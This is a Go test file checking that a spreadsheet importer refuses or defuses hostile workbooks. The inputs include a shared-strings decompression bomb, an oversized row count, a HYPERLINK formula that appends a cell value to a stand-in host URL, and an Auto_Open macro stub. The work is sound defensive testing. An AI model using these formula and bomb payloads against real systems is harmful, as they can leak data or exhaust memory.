package exchange_test

import (
	"bytes"
	"errors"
	"maps"
	"runtime"
	"strings"
	"testing"
	"time"

	"amana/internal/exchange"
)

const head = `<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>incident id</t></is></c><c t="inlineStr"><is><t>age</t></is></c></row>`

// sheetWith is a workbook with these rows below a header of two columns.
func sheetWith(t testing.TB, rows string, parts map[string]string) []byte {
	t.Helper()
	all := map[string]string{"xl/worksheets/sheet1.xml": head + rows + "</sheetData></worksheet>"}
	maps.Copy(all, parts)
	return book(t, all)
}

// A workbook that is small and unpacks into very much is refused, and costs no more
// memory than one that does not.
func TestHostile_boundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("takes seconds")
	}
	for _, c := range []struct {
		name    string
		content []byte
	}{
		{"a bomb of strings", sheetWith(t, "", map[string]string{
			"xl/sharedstrings.xml": "<sst>" + strings.Repeat("<si><t>"+strings.Repeat("a", 50_000)+"</t></si>", 2_700) + "</sst>",
		})},
		{"a million rows and one", sheetWith(t, strings.Repeat(`<row><c t="n"><v>1</v></c></row>`, 1_000_001), nil)},
	} {
		t.Run(c.name, func(t *testing.T) {
			const most = 600 << 20 // what collects garbage only now and then needs for 128 MB of strings
			top := peak(func() {
				_, err := exchange.Open(t.Context(), bytes.NewReader(c.content), int64(len(c.content)))
				if !errors.Is(err, exchange.ErrLimit) {
					t.Errorf("err = %v, want %v", err, exchange.ErrLimit)
				}
			})
			t.Logf("%d MB at most, for a file of %d KB", top>>20, len(c.content)>>10)
			if top > most || len(c.content) > 1<<20 {
				t.Errorf("%d MB held for a file of %d KB", top>>20, len(c.content)>>10)
			}
		})
	}
}

// peak is the most that the heap has while fn runs.
func peak(fn func()) uint64 {
	runtime.GC()
	done, top := make(chan struct{}), make(chan uint64)
	go func() {
		var m runtime.MemStats
		most := uint64(0)
		for {
			runtime.ReadMemStats(&m)
			most = max(most, m.HeapAlloc)
			select {
			case <-done:
				top <- most
				return
			case <-time.After(5 * time.Millisecond):
			}
		}
	}()
	fn()
	close(done)
	return <-top
}

// Nothing in a workbook is worked out or run: of a formula there is what it came to,
// and somebody is told; a macro is not looked at.
func TestHostile_formulaAndMacro(t *testing.T) {
	rows := `<row r="2"><c t="inlineStr"><is><t>IR-1</t></is></c><c><f>HYPERLINK("http://example.invalid/"&amp;A2)</f><v>19</v></c></row>`
	f := open(t, sheetWith(t, rows, map[string]string{"xl/vbaProject.bin": "Sub Auto_Open()"}))
	got := rowsOf(t, f, f.Proposed)
	if len(got) != 1 || got[0].ID != "IR-1" {
		t.Fatalf("%d rows", len(got))
	}
	if age, _ := got[0].Values["age"].Int(); age != 19 {
		t.Errorf("what the formula came to did not come")
	}
	if p := problems(got[0]); len(p) != 1 || p[0] != "B import.problem.formula" {
		t.Errorf("told: %v", p)
	}
	for _, v := range got[0].Values {
		if strings.Contains(v.Reveal(), "HYPERLINK") {
			t.Error("a formula came")
		}
	}
}
